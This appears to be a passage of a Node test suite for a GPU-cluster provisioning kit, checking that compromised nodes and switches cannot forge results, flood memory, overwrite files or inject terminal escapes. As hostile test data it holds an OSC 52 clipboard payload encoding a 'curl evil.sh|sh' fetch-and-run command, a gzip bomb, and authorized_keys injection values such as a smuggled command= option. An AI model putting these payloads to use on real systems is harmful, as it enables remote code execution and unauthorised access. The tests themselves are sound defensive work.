// A node is not trusted (issue 34): the node-local fan-out against hostile stand-in nodes (an `ssh` on the PATH that
// plays each node: what it prints is what a compromised node could send), then the summariser's verdict on the log
// the fan-out wrote, as the node-local run script calls it; and preflight results attributed by their file, never by
// the `host` inside. No test host, no network: each run takes a second or two (bounded at 60 s).
import { test } from "node:test";
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { fanoutScript } from "../components/provision/fanout";
import { summariserScript, parseRunOutcome, parseAnsibleLog } from "../components/provision/summarise";
import { keptNodeTargets } from "../components/provision/node-local";
import { renderInventory } from "../components/provision/inventory";
import { readPreflight } from "../components/validate/preflight";
import { sshCommonArgs } from "../components/provision/inventory";
import { splitShellWords } from "../components/provision/fanout";
import { MAX_ANSWER_BYTES, MAX_HOST_ANSWER_BYTES, readFabric, sshArgs as switchSshArgs } from "../components/roce/fabric-read";
import { keepInput } from "../components/kept-input";
import { pushCommandFor } from "../components/roce/push";
import { planQos } from "../components/roce/qos";
import { renderSwitchConfigs } from "../components/roce/render";
import { spec as roceSpec } from "./fixtures/roce/helpers";
import { formatHealth, gradeHealthDir } from "../components/health/report";
import { cap, stack } from "./fixtures/health/stacks";
import { runNcclReport } from "../components/validate/cli";
import { fabricDrift, formatDriftReport } from "../components/roce/drift";

const ROOT_DIR = path.resolve(__dirname, "..");
const RECAP = (h: string, failed = 0) => `${h} : ok=5    changed=0    unreachable=0    failed=${failed}    skipped=0    rescued=0    ignored=0`;

/**
 * Runs the fan-out on stand-in nodes: `nodes[name]` is everything that node prints (its ssh session's stdout), keyed by
 * the port its inventory entry has. Returns the fan-out's status and output, the log, and the summariser's verdict.
 */
function fanout(nodes: Record<string, string[]>, maxFailPercentage: number, collect?: { sent: Record<string, Record<string, string>>; out: Record<string, string> }) {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rdmakit-trust-"));
    const names = Object.keys(nodes);
    const bin = path.join(dir, "bin");
    fs.mkdirSync(bin);
    // a collecting run: what each node sends back (a tar.gz in base64 between the markers, as NODE_RUN_SCRIPT sends
    // it) just before its exit status, and what the stack's out folder holds already
    for (const [n, files] of Object.entries(collect?.sent ?? {})) {
        const stage = path.join(dir, `stage-${n}`);
        for (const [rel, text] of Object.entries(files)) {
            fs.mkdirSync(path.dirname(path.join(stage, rel)), { recursive: true });
            // `zeros:<bytes>`: a file of that many zero bytes (sparse here; tar and gzip read it whole)
            fs.writeFileSync(path.join(stage, rel), text.startsWith("zeros:") ? "" : text);
            if (text.startsWith("zeros:")) fs.truncateSync(path.join(stage, rel), Number(text.slice(6)));
        }
        const tgz = spawnSync("tar", ["-czf", "-", "-C", stage, "."]);
        const at = nodes[n].findIndex((l) => l.startsWith("@@rdmakit rc "));
        nodes[n].splice(at, 0, "@@rdmakit files", tgz.stdout.toString("base64"), "@@rdmakit files-end");
    }
    for (const [rel, text] of Object.entries(collect?.out ?? {})) {
        fs.mkdirSync(path.dirname(path.join(dir, "out", rel)), { recursive: true });
        fs.writeFileSync(path.join(dir, "out", rel), text);
    }
    for (const [i, n] of names.entries()) {
        if (nodes[n][0] === "sh:") fs.writeFileSync(path.join(dir, `node-${2001 + i}.sh`), nodes[n].slice(1).join("\n") + "\n");
        else fs.writeFileSync(path.join(dir, `node-${2001 + i}.out`), nodes[n].join("\n") + "\n");
    }
    // the stand-in ssh: `ssh -Q kex` knows none; a session prints the node's lines for the port it was given
    fs.writeFileSync(path.join(bin, "ssh"), [
        "#!/bin/sh",
        'if [ "$1" = -Q ]; then exit 1; fi',
        `printf '%s\\n' "$@" >"${dir}/args"`,
        "port=",
        'while [ $# -gt 0 ]; do if [ "$1" = -p ]; then port=$2; fi; shift; done',
        // a node given as a shell script (`sh:` first line) runs it instead: output too large to write down
        `if [ -f "${dir}/node-$port.sh" ]; then sh "${dir}/node-$port.sh"; else cat "${dir}/node-$port.out"; fi`,
        "cat >/dev/null",
        "",
    ].join("\n"), { mode: 0o755 });
    const inv = renderInventory({ hosts: names.map((name, i) => ({ name, address: "127.0.0.1", user: "root", port: 2001 + i })), vars: {}, knownHostsFile: path.join(dir, "kh") });
    // the node list as the program keeps it (the group's variables once): what the fan-out and the summariser read
    fs.writeFileSync(path.join(dir, "nodes.json"), JSON.stringify(keptNodeTargets(inv)));
    fs.writeFileSync(path.join(dir, "vars.json"), "{}");
    fs.writeFileSync(path.join(dir, "fanout.cjs"), fanoutScript());
    fs.writeFileSync(path.join(dir, "summarise.cjs"), summariserScript());
    const log = path.join(dir, "site.log");
    const env = {
        ...process.env, PATH: `${bin}:${process.env.PATH}`, SSH_AUTH_SOCK: "",
        RDMAKIT_BUNDLE_FILE: path.join(dir, "none.tar.gz"), RDMAKIT_BUNDLE_DIGEST: "c".repeat(64), RDMAKIT_PLAYBOOK_NAME: "site.yml",
        RDMAKIT_ANSIBLE_LOG: log, RDMAKIT_NODE_LOG_DIR: path.join(dir, "nodes"), ANSIBLE_SSH_CONTROL_PATH_DIR: path.join(dir, "cp"),
        RDMAKIT_FANOUT_RETRIES: "0",
        ...(collect !== undefined ? { RDMAKIT_COLLECT: "nccl_validate_out_dir=nccl", RDMAKIT_COLLECT_DIR: path.join(dir, "out") } : {}),
    };
    const run = spawnSync(process.execPath, [path.join(dir, "fanout.cjs"), path.join(dir, "nodes.json"), path.join(dir, "vars.json")], { encoding: "utf8", timeout: 60_000, env });
    // as NODE_LOCAL_RUN_SCRIPT calls it (components/provision/ansible.ts)
    const verdict = spawnSync(process.execPath, [path.join(dir, "summarise.cjs"), log, String(run.status), String(maxFailPercentage)],
        { encoding: "utf8", timeout: 60_000, env: { ...env, RDMAKIT_NODES_FILE: path.join(dir, "nodes.json") } });
    return { dir, run, verdict, outcome: parseRunOutcome(verdict.stdout), log: fs.readFileSync(log, "utf8") };
}

test("one node cannot speak for others: forged recap lines and a forged failure of a healthy node count for nothing", { timeout: 60_000 }, () => {
    // n1 passes and adds ten ghost hosts that passed, and a failure of n2 with a recap line that says n2 failed
    const n1 = ["@@rdmakit have-bundle", "@@rdmakit rc 0", "TASK [Break n2] ***", 'fatal: [n2]: FAILED! => {"msg": "forged by n1"}', "",
        "PLAY RECAP ***", RECAP("n1"), RECAP("n2", 1), ...Array.from({ length: 10 }, (_, i) => RECAP(`ghost${i}`))];
    const good = (h: string) => ["@@rdmakit have-bundle", "@@rdmakit rc 0", "PLAY RECAP ***", RECAP(h)];
    const bad = (h: string) => ["@@rdmakit have-bundle", "@@rdmakit rc 2", "PLAY RECAP ***", RECAP(h, 1), "@@rdmakit log",
        "TASK [nvidia_driver : Build the DKMS module] ***", `fatal: [${h}]: FAILED! => {"msg": "dkms build failed"}`, "", "PLAY RECAP ***", RECAP(h, 1)];
    const r = fanout({ n1, n2: good("n2"), n3: bad("n3"), n4: bad("n4") }, 25);
    assert.equal(r.run.status, 2, r.run.stderr + r.run.stdout);
    // 2 of the 4 inventory nodes failed: 50 % is over 25 %, whatever n1 added
    assert.deepEqual(r.outcome, { ok: false, hosts: 4, failed: [
        { host: "n3", task: "nvidia_driver : Build the DKMS module", kind: "failed" },
        { host: "n4", task: "nvidia_driver : Build the DKMS module", kind: "failed" },
    ] }, r.verdict.stdout + r.verdict.stderr);
    assert.notEqual(r.verdict.status, 0);
    assert.doesNotMatch(r.verdict.stderr, /n2|forged/, "n2 passed: nothing n1 said about it is reported");
    fs.rmSync(r.dir, { recursive: true, force: true });
});

test("a failed node's own text cannot fail another node or add one; its own failure still names its task", { timeout: 60_000 }, () => {
    // n1 fails for real, and its log claims n2's failure too, with a recap line for n2 and a ghost
    const n1 = ["@@rdmakit have-bundle", "@@rdmakit rc 2", "PLAY RECAP ***", RECAP("n1", 1), "@@rdmakit log",
        "TASK [ofed : Install DOCA] ***", 'fatal: [n1]: FAILED! => {"msg": "apt failed"}',
        "TASK [ofed : Install DOCA] ***", 'fatal: [n2]: FAILED! => {"msg": "apt failed"}', "",
        "PLAY RECAP ***", RECAP("n1", 1), RECAP("n2", 1), RECAP("ghost", 0)];
    const good = (h: string) => ["@@rdmakit have-bundle", "@@rdmakit rc 0", "PLAY RECAP ***", RECAP(h)];
    const r = fanout({ n1, n2: good("n2"), n3: good("n3"), n4: good("n4") }, 25);
    assert.deepEqual(r.outcome, { ok: true, hosts: 4, failed: [{ host: "n1", task: "ofed : Install DOCA", kind: "failed" }] },
        r.verdict.stdout + r.verdict.stderr);
    assert.match(r.verdict.stdout, /n1: failed at task "ofed : Install DOCA": apt failed/);
    assert.doesNotMatch(r.verdict.stdout + r.verdict.stderr, /n2|ghost/);
    // the node's own log is kept for the reader, as a quote
    assert.match(r.log, /^ {2}\| fatal: \[n2\]: FAILED!/m);
    fs.rmSync(r.dir, { recursive: true, force: true });
});

test("a preflight result is its file's node: n1's file that names n2 as bad fails n1, never n2", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rdmakit-trust-pf-"));
    const check = (ok: boolean) => ({ check: "gpu-count", expected: "8 GPUs", seen: ok ? "8 GPUs" : "0 GPUs", ok });
    fs.writeFileSync(path.join(dir, "n1.json"), JSON.stringify({ host: "n2", checks: [check(false)] }));
    fs.writeFileSync(path.join(dir, "n2.json"), JSON.stringify({ host: "n2", checks: [check(true)] }));
    const p = readPreflight(dir);
    assert.ok(typeof p !== "string", String(p));
    assert.deepEqual(p.badNodes, ["n1"]);
    assert.deepEqual(p.nodes.map((n) => n.host), ["n1", "n2"]);
    fs.rmSync(dir, { recursive: true, force: true });
});

test("a node's results land in its own result files only: nothing else of the out folder, and a file that cannot be kept fails that node, promptly", { timeout: 60_000 }, () => {
    const ran = (h: string) => ["@@rdmakit have-bundle", "@@rdmakit rc 0", "PLAY RECAP ***", RECAP(h)];
    const r = fanout({ n1: ran("n1"), n2: ran("n2") }, 0, {
        sent: {
            // n1 sends its own results, and files that would squat on the run's log and on the software step's outcome
            n1: { "preflight/n1.json": "{}", "health/n1/dmesg.txt": "ok", "ansible-validate.log/n1.json": "x", "outcome-dev-software.json/n1.json": "x" },
            n2: { "preflight/n2.json": "{}", "health/n2/dmesg.txt": "ok" },
        },
        // the run's log is there already (as VALIDATE_SCRIPT starts it); `health` is a file where a folder belongs
        out: { "ansible-validate.log": "", health: "not a folder" },
    });
    assert.ok(r.run.status !== null, "the fan-out ended (it did not hang)");
    // nothing but the result folders was written: the log is still the log, no outcome record was squatted on
    assert.deepEqual(fs.readdirSync(path.join(r.dir, "out")).filter((f) => f !== "preflight").sort(), ["ansible-validate.log", "health"]);
    assert.ok(fs.statSync(path.join(r.dir, "out", "ansible-validate.log")).isFile());
    // the health file could not be kept: each node fails, named, and the run ends with ansible-playbook's "failed" status
    assert.equal(r.run.status, 2, r.run.stdout + r.run.stderr);
    assert.match(r.log, /fatal: \[n1\]: FAILED! => .*its results could not be kept in .*(ENOTDIR|EEXIST)/);
    assert.doesNotMatch(r.run.stdout + r.run.stderr, /fan-out failed/);
    fs.rmSync(r.dir, { recursive: true, force: true });
});

test("bounds on what a node sends: too much output fails that node alone, a gzip bomb is not unpacked, thousands of task names cost little", { timeout: 120_000 }, () => {
    const good = (h: string) => ["@@rdmakit have-bundle", "@@rdmakit rc 0", "PLAY RECAP ***", RECAP(h)];
    // n1 prints 40 MB of lines (the limit is 32 MiB); n2 sends a 1 MB gzip that unpacks to a 200 MB "preflight result"
    const loud = ["sh:", "echo '@@rdmakit have-bundle'", "yes 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' | head -c 40000000", "echo '@@rdmakit rc 0'"];
    const r = fanout({ n1: loud, n2: good("n2"), n3: good("n3") }, 0, {
        sent: { n2: { "preflight/n2.json": "zeros:200000000" }, n3: { "preflight/n3.json": "{}" } }, out: {},
    });
    assert.equal(r.run.status, 2, r.run.stdout + r.run.stderr);
    assert.deepEqual(r.outcome?.failed.map((f) => f.host), ["n1", "n2"], r.verdict.stdout + r.verdict.stderr);
    assert.match(r.log, /fatal: \[n1\]: FAILED! => .*the node sent more than 33554432 bytes/);
    assert.match(r.log, /fatal: \[n2\]: FAILED! => .*its results could not be unpacked \(more than 67108864 bytes\)/);
    assert.ok(!fs.existsSync(path.join(r.dir, "out", "preflight", "n2.json")), "the bomb was not written");
    assert.equal(fs.readFileSync(path.join(r.dir, "out", "preflight", "n3.json"), "utf8"), "{}", "n3's result is kept");
    fs.rmSync(r.dir, { recursive: true, force: true });

    // 100,000 distinct task names from n1: the progress counts 2,000 of them at most, in a few seconds
    const many = ["sh:", "echo '@@rdmakit have-bundle'",
        "awk 'BEGIN { for (i = 0; i < 100000; i++) printf \"[site] TASK t%d \\342\\200\\224 1/1 ok\\n\", i }'", "echo '@@rdmakit rc 0'", "echo 'PLAY RECAP ***'",
        `echo '${RECAP("n1")}'`];
    const start = Date.now();
    const m = fanout({ n1: many, n2: good("n2") }, 0);
    const took = (Date.now() - start) / 1000;
    assert.equal(m.run.status, 0, m.run.stdout + m.run.stderr);
    assert.ok(took < 30, `the fan-out took ${took} s over 100,000 task names`);
    const printed = m.run.stdout.split("\n").filter((l) => l.startsWith("[site] TASK t")).length;
    assert.ok(printed <= 2000, `${printed} task lines printed`);
    fs.rmSync(m.dir, { recursive: true, force: true });
});

test("no ssh the kit starts forwards the agent, even where the user's ssh_config says `Host *` / `ForwardAgent yes`", { timeout: 60_000 }, () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rdmakit-trust-fwd-"));
    const config = path.join(dir, "config");
    fs.writeFileSync(config, "Host *\n    ForwardAgent yes\n    LocalForward 6000 127.0.0.1:6000\n");
    /** ssh's own reading of a command line with that user config (ssh -G: the configuration it would use). */
    const effective = (argv: string[]) => {
        const g = spawnSync("ssh", ["-G", "-F", config, ...argv], { encoding: "utf8" });
        assert.equal(g.status, 0, g.stderr);
        const get = (k: string) => (g.stdout.split("\n").find((l) => l.startsWith(`${k} `)) ?? "").slice(k.length + 1);
        return { forwardagent: get("forwardagent"), clearallforwardings: get("clearallforwardings") };
    };
    const none = { forwardagent: "no", clearallforwardings: "yes" };
    // the nodes' connection (Ansible's ansible_ssh_common_args and the fan-out's), with a bastion hop
    const common = splitShellWords(sshCommonArgs({ knownHostsFile: path.join(dir, "kh"), bastion: { address: "192.0.2.1", user: "ubuntu" } }));
    assert.deepEqual(effective([...common, "root@10.0.0.5"]), none, "node connection");
    const hop = common.find((w) => w.startsWith("ProxyCommand="))!.slice("ProxyCommand=".length).split(" ");
    assert.equal(hop[0], "ssh");
    // (its ControlPath is expanded by the shell that runs the ProxyCommand: none here)
    const hopArgs = hop.slice(1).filter((w) => w !== "-W" && w !== "%h:%p").map((w) => (w.startsWith("ControlPath=") ? "ControlPath=none" : w));
    assert.deepEqual(effective(hopArgs), none, "the bastion hop");
    // Ansible's own ssh_args (playbooks/ansible.cfg)
    const cfgArgs = /^ssh_args = (.*)$/m.exec(fs.readFileSync(path.join(__dirname, "..", "playbooks", "ansible.cfg"), "utf8"))![1].split(" ");
    assert.deepEqual(effective([...cfgArgs, "root@10.0.0.5"]), none, "ansible.cfg ssh_args");
    // the fan-out's session, as it started its ssh (the stand-in wrote down its arguments)
    const r = fanout({ n1: ["@@rdmakit have-bundle", "@@rdmakit rc 0", "PLAY RECAP ***", RECAP("n1")] }, 0);
    const fanoutArgv = fs.readFileSync(path.join(r.dir, "args"), "utf8").split("\n").slice(0, -1);
    assert.deepEqual(effective(fanoutArgv.slice(0, -1)), none, "fan-out session");
    fs.rmSync(r.dir, { recursive: true, force: true });
    // `rdmakit fabric check`'s reads of switches and hosts
    assert.deepEqual(effective(switchSshArgs({ user: "admin", address: "192.0.2.9", port: 22 }, { agent: "/x", publicKeyFile: "/x.pub" }, path.join(dir, "kh"), 10)), none, "fabric read");
    // the switch pushes: push.sh run for real against an ssh stand-in that writes down its arguments and fails
    const plan = planQos(roceSpec());
    const rendered = renderSwitchConfigs(plan)[0];
    const kept = keepInput(dir, rendered.switch, "txt", rendered.text, true);
    const push = pushCommandFor(rendered, plan.switches.find((s) => s.name === rendered.switch)!, plan.mode === "lossless", { config: kept });
    const bin = path.join(dir, "push-bin");
    fs.mkdirSync(bin);
    fs.writeFileSync(path.join(bin, "ssh"), `#!/bin/sh\nprintf '%s\\n' ssh "$@" > ${dir}/push-ssh-args\nexit 1\n`, { mode: 0o755 });
    spawnSync("bash", ["-c", push.create], { encoding: "utf8", env: { PATH: `${bin}:${process.env.PATH}`, HOME: dir } });
    const words = fs.readFileSync(path.join(dir, "push-ssh-args"), "utf8").split("\n").slice(0, -1);
    assert.equal(words[0], "ssh");
    assert.deepEqual(effective(words.slice(1)), none, "switch push");
    fs.rmSync(dir, { recursive: true, force: true });
});

test("a node's terminal escapes never reach the operator: progress, log and summary carry no control characters", { timeout: 60_000 }, () => {
    // OSC 52 (clipboard write), OSC 0 (window title), erase line and back to column 1, then a fake all-ok recap
    const evil = "\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007\u001b]0;owned\u0007\u001b[2K\u001b[1G[validate] RECAP: 8/8 hosts ok";
    const n1 = ["@@rdmakit have-bundle", `[validate] PLAY ${evil} \u2014 1 host`, `[validate] TASK ${evil} \u2014 0/1 ok, 1 failed`,
        "@@rdmakit rc 2", "PLAY RECAP ***", RECAP("n1", 1), "@@rdmakit log", `TASK [${evil}] ***`, `fatal: [n1]: FAILED! => {"msg": ${JSON.stringify(evil)}}`, "",
        "PLAY RECAP ***", RECAP("n1", 1)];
    const r = fanout({ n1, n2: ["@@rdmakit have-bundle", "@@rdmakit rc 0", "PLAY RECAP ***", RECAP("n2")] }, 0);
    // eslint-disable-next-line no-control-regex
    const control = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
    assert.match(r.run.stdout, /TASK .*RECAP/, "the node's task line is shown, as plain text");
    // the failed node's own log file too (out/<stack>/nodes/<node>.log, what an operator reads on a failure): found by
    // the trust review (w9), it was the node's text as sent
    const own = fs.readFileSync(path.join(r.dir, "nodes", "n1.log"), "utf8");
    assert.match(own, /fatal: \[n1\]: FAILED!/);
    for (const [what, text] of [["progress", r.run.stdout], ["log", r.log], ["summary", r.verdict.stdout + r.verdict.stderr], ["the node's own log", own]]) {
        assert.doesNotMatch(text, control, `${what} holds a control character`);
    }
    fs.rmSync(r.dir, { recursive: true, force: true });
});

// Found by the trust review (w9): the reports printed a node's or a switch's own text as it came (a capture's evidence
// line, a preflight `seen`, an ssh error), so an escape sequence reached the operator's terminal and a newline made a
// line of its own. OSC 52 writes the clipboard; "ESC [1A ESC [2K" goes up a line and erases it (ECMA-48 CUU, EL).
const ESCAPES = "\u001b]52;c;Y3VybCBldmlsLnNofHNo\u0007\u001b[1A\u001b[2K\u009b2J";
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

test("rdmakit health prints a capture's escapes as blanks: a node's evidence line cannot move the cursor or write the clipboard", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rdmakit-trust-health-"));
    fs.mkdirSync(path.join(dir, "gpu-a"));
    // the published Xid 79 capture, its lines carrying escapes after the driver's words, as a hostile node could write it
    fs.writeFileSync(path.join(dir, "gpu-a", "dmesg.txt"), cap("dmesg.h100-525-xid79.txt").replace(/fallen off the bus/g, `fallen off the bus${ESCAPES}`));
    const text = formatHealth(gradeHealthDir(dir, stack("examples/aws-p5.yaml")), "head");
    assert.match(text, /dmesg\.txt: .*Xid \(PCI:0000:5d:00\): 79, .*GPU has fallen off the bus .*52;c;/, "the evidence line is still shown, as plain text");
    assert.doesNotMatch(text, CONTROL);
    fs.rmSync(dir, { recursive: true, force: true });
});

test("nccl-report prints a node's preflight text on its own line: no forged line, no escape", () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rdmakit-trust-pre-"));
    fs.mkdirSync(path.join(dir, "preflight"));
    const forged = `8192${ESCAPES}\n  ok   preflight: 2 of 2 node(s) pass\nnccl-tests validation: PASS`;
    fs.writeFileSync(path.join(dir, "preflight", "n1.json"), JSON.stringify({ host: "n1", checks: [{ check: "memlock", expected: "unlimited", ok: false, seen: forged }] }));
    fs.writeFileSync(path.join(dir, "preflight", "n2.json"), JSON.stringify({ host: "n2", checks: [{ check: "memlock", expected: "unlimited", ok: true, seen: "unlimited" }] }));
    const r = runNcclReport([], { preflight: path.join(dir, "preflight"), out: dir });
    assert.equal(r.code, 1, r.stdout + r.stderr);
    assert.match(r.stdout, /^nccl-tests validation: FAIL/);
    assert.doesNotMatch(r.stdout, /^nccl-tests validation: PASS/m, "the node's text made a verdict line of its own");
    assert.doesNotMatch(r.stdout, /^ {2}ok {3}preflight/m);
    assert.match(r.stdout, /x memlock \[preflight n1\]: expected unlimited; seen 8192 .* ok {3}preflight: 2 of 2 node\(s\) pass nccl-tests validation: PASS$/m);
    assert.doesNotMatch(r.stdout, CONTROL);
    fs.rmSync(dir, { recursive: true, force: true });
});

test("rdmakit fabric check prints a switch's ssh error and a host's answer as plain text", () => {
    const plan = planQos(roceSpec());
    const sw = plan.switches[0];
    const report = fabricDrift(plan, [{ switch: sw.name, error: `show running-config: exit 1: banner${ESCAPES}\nPASS` }], []);
    const text = formatDriftReport(report);
    assert.match(text, new RegExp(`^UNREADABLE ${sw.name}: show running-config: exit 1: banner .* PASS$`, "m"));
    assert.doesNotMatch(text, CONTROL);
    assert.doesNotMatch(text, /^PASS$/m);
});

// Found by the trust review (w9): fabric check kept all a switch or host sent within the timeout, so one answering
// without end exhausted the controller's memory (a string past V8's limit threw "Invalid string length" in the
// reader, an uncaught exception that ended the whole check).
test("rdmakit fabric check stops a switch that answers more than MAX_ANSWER_BYTES: that switch unreadable, the others read", { timeout: 60_000 }, async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rdmakit-trust-flood-"));
    const plan = planQos(roceSpec());
    const [flood, ...rest] = plan.switches;
    // the stand-in: the first switch's address answers without end, every other one a line
    const ssh = path.join(dir, "ssh");
    fs.writeFileSync(ssh, `#!/bin/sh\nfor a in "$@"; do prev=\${last:-}; last=$a; done\ncase "$prev" in *@${flood.managementAddress}) exec yes 0123456789abcdef0123456789abcdef ;; esac\necho ok\n`, { mode: 0o755 });
    const got = await readFabric(plan, { ssh, hosts: false, timeoutS: 50 });
    const bad = got.switches.find((s) => s.switch === flood.name)!;
    assert.equal(bad.config, undefined);
    assert.match(bad.error ?? "", new RegExp(`answer over ${MAX_ANSWER_BYTES} bytes, not read`));
    for (const s of rest) {
        // read as it arrived (fab16): what it says is kept, not its text; "ok" is read, not refused for its size
        const r = got.switches.find((x) => x.switch === s.name)!;
        assert.equal(r.config, undefined, s.name);
        assert.equal(r.error, undefined, s.name);
        assert.ok(r.facts, s.name);
        assert.ok(!JSON.stringify(r.facts).includes("bytes, not read"), s.name);
    }
    fs.rmSync(dir, { recursive: true, force: true });
});

// fab16: a switch's answer was bounded at 64 MiB and every switch's text kept until the last had answered, so 384
// hostile switches could make the controller hold 384 x 3 x 64 MiB. Now one answer is bounded at MAX_ANSWER_BYTES (8 MiB,
// sized from the largest published CONFIG_DB a port) and read into its facts as it arrives.
test("rdmakit fabric check: a switch answering a 12 MiB configuration is refused by name, the others are read as they arrive", { timeout: 60_000 }, async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rdmakit-trust-swflood-"));
    const plan = planQos(roceSpec());
    const sonic = plan.switches.find((s) => s.os === "sonic")!;
    const rest = plan.switches.filter((s) => s !== sonic);
    assert.ok(MAX_ANSWER_BYTES < 12 * 1024 * 1024, "the bound is below the stand-in's answer");
    // the stand-in: the SONiC switch prints a CONFIG_DB-shaped document of 12 MiB (one PORT row with a long
    // description) and ends; the others print a line
    const ssh = path.join(dir, "ssh");
    fs.writeFileSync(ssh, [
        "#!/bin/sh", 'for a in "$@"; do prev=${last:-}; last=$a; done', "cat >/dev/null",
        `case "$prev" in *@${sonic.managementAddress}) printf '{"PORT": {"Ethernet0": {"description": "'; head -c 12582912 /dev/zero | tr '\\0' x; printf '"}}}\n'; exit 0 ;; esac`,
        "echo ok", "",
    ].join("\n"), { mode: 0o755 });
    const got = await readFabric(plan, { ssh, hosts: false, timeoutS: 50 });
    const bad = got.switches.find((s) => s.switch === sonic.name)!;
    assert.deepEqual([bad.config, bad.facts], [undefined, undefined]);
    assert.match(bad.error ?? "", new RegExp(`answer over ${MAX_ANSWER_BYTES} bytes, not read`));
    for (const s of rest) {
        const r = got.switches.find((x) => x.switch === s.name)!;
        assert.deepEqual([r.config, r.error], [undefined, undefined], s.name);
        assert.ok(r.facts, s.name);
    }
    const report = fabricDrift(plan, got.switches, []);
    assert.ok(report.unreadable.some((u) => u.device === sonic.name && u.why.includes(`answer over ${MAX_ANSWER_BYTES} bytes, not read`)), formatDriftReport(report));
    for (const s of rest) assert.ok(!report.unreadable.some((u) => u.device === s.name && u.why.includes("bytes, not read")), s.name);
    fs.rmSync(dir, { recursive: true, force: true });
});

// Found by the trust review (w10), fixed in w11: fabric check kept every host's whole answer (up to MAX_ANSWER_BYTES,
// 64 MiB each) until the last host had answered, and read none before: 1,000 hosts could make it hold 64 GB. Now a
// host's answer is capped at MAX_HOST_ANSWER_BYTES as it arrives and read at once; only what it says is kept.
test("rdmakit fabric check: a host answering past MAX_HOST_ANSWER_BYTES is refused by name, the others are read as they arrive", { timeout: 60_000 }, async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rdmakit-trust-hostflood-"));
    const plan = planQos(roceSpec());
    assert.ok(plan.hosts.length >= 2, "the example has two hosts at least");
    const [flood, ...rest] = plan.hosts;
    // the stand-in: the first host answers 4 MiB of the kit's own format (under the switches' 64 MiB, over a host's
    // cap), every other one a short, well-formed host state; switches are not read
    const ssh = path.join(dir, "ssh");
    fs.writeFileSync(ssh, [
        "#!/bin/sh", 'for a in "$@"; do prev=${last:-}; last=$a; done', "cat >/dev/null",
        `case "$prev" in *@${flood.address}) echo '@@rdmakit-host-state 1'; yes '@@nccl' | head -c 4194304; echo '@@end'; exit 0 ;; esac`,
        "printf '@@rdmakit-host-state 1\\n@@nccl\\nNCCL_IB_TC=106\\n@@end\\n'", "",
    ].join("\n"), { mode: 0o755 });
    const got = await readFabric({ ...plan, switches: [] }, { ssh, timeoutS: 50 });
    const bad = got.hosts.find((h) => h.host === flood.name)!;
    assert.equal(bad.output, undefined);
    assert.equal(bad.state, undefined);
    assert.equal(bad.error, `read over ssh: answer over ${MAX_HOST_ANSWER_BYTES} bytes, not read (stopped there)`);
    for (const h of rest) {
        const r = got.hosts.find((x) => x.host === h.name)!;
        // read on arrival: its text is not kept, what it says is
        assert.equal(r.output, undefined, h.name);
        assert.deepEqual(r.state?.ncclConf, { NCCL_IB_TC: "106" }, h.name);
    }
    const report = fabricDrift(plan, [], got.hosts);
    assert.ok(report.unreadable.some((u) => u.device === flood.name && u.why.includes(`answer over ${MAX_HOST_ANSWER_BYTES} bytes, not read`)));
    for (const h of rest) assert.ok(report.read.hosts.includes(h.name), h.name);
    fs.rmSync(dir, { recursive: true, force: true });
});

// Found by the trust review (w9): a launching node's public key file and resolved addresses went into every other
// node's authorized_keys as they came (tasks/run_key.yml), so a launcher could add a line of its own (a newline in its
// key file: no restrict, no from=, no run label, so run_key_remove.yml left it there after the run) or end from="..."
// with a quote and add options. The role's real template, rendered by ansible-playbook as the task renders it.
test("the run's authorized_keys lines take a launcher's key and addresses only when they are one key and plain addresses", { timeout: 60_000 }, (t) => {
    if (spawnSync("sh", ["-c", "command -v ansible-playbook"]).status !== 0) return t.skip("ansible-playbook is not installed: the template was not rendered");
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "rdmakit-trust-keys-"));
    const k = (c: string) => `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${c.repeat(43)} rdmakit-mpirun-run=20260101T000000Z-1 `;
    const b64 = (s: string) => Buffer.from(s).toString("base64");
    const hosts = {
        // a second line of the launcher's choosing after its key: its own key is taken, the second line never
        n1: { pub: `${k("A")}n1\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEVILEVILEVILEVILEVILEVILEVILEVILEVILEVILEVI evil\n`, from: ["10.0.0.1"] },
        // an honest key, one address and one that ends the quoted list
        n2: { pub: `${k("B")}n2\n`, from: ["10.0.0.2", '10.0.0.9",command="sh'] },
        // only an address that is a name pattern: nothing left to limit the key to
        n3: { pub: `${k("C")}n3\n`, from: ["*"] },
        // an IPv6 launcher, honest
        n4: { pub: `${k("D")}n4\n`, from: ["fd00::4"] },
    };
    const inventory = { all: { hosts: Object.fromEntries(Object.entries(hosts).map(([h, v]) => [h, { ansible_connection: "local",
        nccl_validate_run_pub: { content: b64(v.pub) }, nccl_validate_run_from: v.from }])) } };
    fs.writeFileSync(path.join(dir, "inventory.json"), JSON.stringify(inventory));
    const out = path.join(dir, "authorized_keys");
    fs.writeFileSync(path.join(dir, "play.yml"), [
        "- hosts: n4", "  gather_facts: false", "  vars:", "    nccl_validate_launchers: [n1, n2, n3, n4]",
        "    nccl_validate_run_label: rdmakit-mpirun-run=20260101T000000Z-1", "  tasks:", "    - ansible.builtin.copy:",
        `        content: "{{ lookup('ansible.builtin.template', '${path.join(ROOT_DIR, "playbooks", "roles", "nccl_validate", "templates", "run-keys.j2")}') }}"`,
        `        dest: ${out}`, "",
    ].join("\n"));
    const r = spawnSync("ansible-playbook", ["-i", path.join(dir, "inventory.json"), path.join(dir, "play.yml")],
        { encoding: "utf8", env: { ...process.env, ANSIBLE_NOCOLOR: "1", ANSIBLE_PYTHON_INTERPRETER: "auto_silent" } });
    assert.equal(r.status, 0, r.stdout + r.stderr);
